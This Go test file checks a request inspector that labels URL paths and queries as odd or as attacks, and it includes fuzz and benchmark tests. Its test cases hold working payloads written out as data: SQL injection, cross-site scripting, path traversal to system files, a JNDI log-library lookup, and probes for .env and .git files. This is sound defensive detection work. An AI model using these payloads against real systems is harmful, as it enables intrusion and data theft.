package scoring

import (
	"net/url"
	"strings"
	"testing"
)

func TestInspect(t *testing.T) {
	search := func(text string) (string, string) { return "/v1/search", "page=2&q=" + url.QueryEscape(text) }
	line := func(path, query string) func() (string, string) {
		return func() (string, string) { return path, query }
	}
	tests := []struct {
		name   string
		line   func() (path, query string)
		odd    bool
		attack bool
	}{
		{"a plain path", line("/v1/products/12345", ""), false, false},
		{"a plain query", line("/v1/products", "page=2&sort=-price&from=2026-01-01T00:00:00%2B01:00"), false, false},
		{"words of another script", line("/caf%C3%A9/%E6%96%B0", "q=%D1%87%D0%B0%D0%B9"), false, false},
		{"an address as a value", line("/login", "next=https%3A%2F%2Fshop.example%2Fcart"), false, false},
		{"a version with dots", line("/lib/1.2.3/a.min.js", "v=4.5"), false, false},
		{"the folder of well-known files", line("/.well-known/security.txt", ""), false, false},
		{"a file of one's own that begins with a dot", line("/dav/files/me/.config/app.ini", ""), false, false},
		{"a slug with two hyphens", line("/shop/lamp--blue", ""), true, false},
		{"a climb of one step by a simple crawler", line("/a/../b", ""), true, false},

		{"tautology", line("/item", "id=1%27%20or%20%271%27%3D%271"), true, true},
		{"tautology without quotes", line("/item", "id=1+or+1%3D1"), true, true},
		{"union in the path", line("/item/-1%27%20union%20select%201,2--%20", ""), true, true},
		{"a statement in the parameter's name", line("/item", "1%27;drop%20table%20users--=x"), true, true},
		{"encoded twice", line("/item", "id=1%2527%2520or%2520%25271%2527%253D%25271"), true, true},
		{"a script element", line("/search", "q=%3Cscript%3Ealert(1)%3C/script%3E"), true, true},
		{"an event handler", line("/search", "q=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E"), true, true},
		{"climbing out", line("/static/../../../etc/hosts", ""), true, true},
		{"climbing out, encoded", line("/static/%2e%2e%2f%2e%2e%2fboot", ""), true, true},
		{"climbing out on Windows", line("/download", "file=..%5C..%5Cwin.ini"), true, true},
		{"a system file as a value", line("/download", "file=/etc/passwd"), true, true},
		{"a lookup in a log library", line("/", "x=$%7Bjndi:ldap://198.51.100.1/a%7D"), true, true},
		{"settings with passwords", line("/.env.production", ""), true, true},
		{"a repository", line("/.git/config", ""), true, true},
		{"an attack behind a wall of odd values", line("/", strings.Repeat("a='&", 200)+"file=../../x"), true, true},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			path, query := test.line()
			if odd, attack := inspect(path, query); odd != test.odd || attack != test.attack {
				t.Errorf("%s?%s: odd %v, attack %v, want %v, %v", path, query, odd, attack, test.odd, test.attack)
			}
		})
	}
	for _, text := range []string{
		"O'Brien", "rock 'n' roll", "it's 5 o'clock", `"exact phrase"`, `5' 10" tall`, "women's shoes -- size 5", "<3 you",
		"x < y and y > z", "tom & jerry's", "union square; select seats", "d'Artagnan or Athos", "'70s and '80s music",
		`title:"foo" AND author:'bar'`, "(a or b) and c", "'rock' or 'pop'", "name eq 'O''Brien'", `{"a":"b","c":[1,2]}`,
		"price>=10 and price<=20", "l'été; d'hiver", "style=red", "if (a<b) { return; }", "<b>bold</b>", "dGVzdA==",
	} {
		t.Run("a person searches for "+text, func(t *testing.T) {
			path, query := search(text)
			if _, attack := inspect(path, query); attack {
				t.Errorf("%q is taken for an attack", text)
			}
		})
	}
}

func TestDecoded(t *testing.T) {
	tests := []struct {
		text string
		form bool
		want string
	}{
		{"plain", true, "plain"},
		{"a+b", true, "a b"},
		{"a+b", false, "a+b"},
		{"a%2Bb", true, "a+b"},
		{"%41%62", false, "Ab"},
		{"%2541", false, "A"},
		{"%252541", false, "%41"},
		{"100%", false, "100%"},
		{"%4", false, "%4"},
		{"%zz%", false, "%zz%"},
	}
	for _, test := range tests {
		if got := decoded(test.text, test.form); got != test.want {
			t.Errorf("decoded(%q, %v) is %q, want %q", test.text, test.form, got, test.want)
		}
	}
}

// TestABrokenParserIsNoWayOut has a parser that panics, as one may that reads whatever a client sends.
func TestABrokenParserIsNoWayOut(t *testing.T) {
	panics := func(text string) bool { return text[len(text)] == 0 }
	if !guarded(panics, "x") {
		t.Error("text that breaks the parser passes")
	}
}

func FuzzInspect(f *testing.F) {
	f.Add("/a/b", "q=1")
	f.Add("/.env", "id=1%27%20or%20%271%27%3D%271")
	f.Add("/a/.b/..c", "x=y=z&w")
	f.Add("/x/etc/proc", "f=/proc/&g=--")
	f.Add("/%2e%2e/%2e%2e/", "a=<script>&b='--/*")
	f.Fuzz(func(t *testing.T, path, query string) {
		odd, attack := inspect(path, query)
		if attack && !odd {
			t.Errorf("%q %q: an attack without odd text", path, query)
		}
		if closeOdd, closeAttack := inspectClosely(path, query); odd != closeOdd || attack != closeAttack {
			t.Errorf("%q %q: odd %v, attack %v, a closer look says %v, %v", path, query, odd, attack, closeOdd, closeAttack)
		}
		if plain, err := url.PathUnescape(path); err == nil && !strings.Contains(plain, "%") {
			if got := decoded(path, false); got != plain {
				t.Errorf("decoded(%q) is %q, want %q", path, got, plain)
			}
		}
	})
}

func BenchmarkInspect(b *testing.B) {
	for _, test := range []struct{ name, path, query string }{
		{"plain", "/v1/products/12345", "page=2&sort=price"},
		{"quote", "/v1/search", "q=O%27Brien"},
		{"injection", "/v1/search", "id=1%27%20or%20%271%27%3D%271"},
		{"hostile short texts", "/", strings.Repeat("&'=#", 512)},
		{"hostile long text", "/", strings.Repeat("x--", 682)},
	} {
		b.Run(test.name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				inspect(test.path, test.query)
			}
		})
	}
}
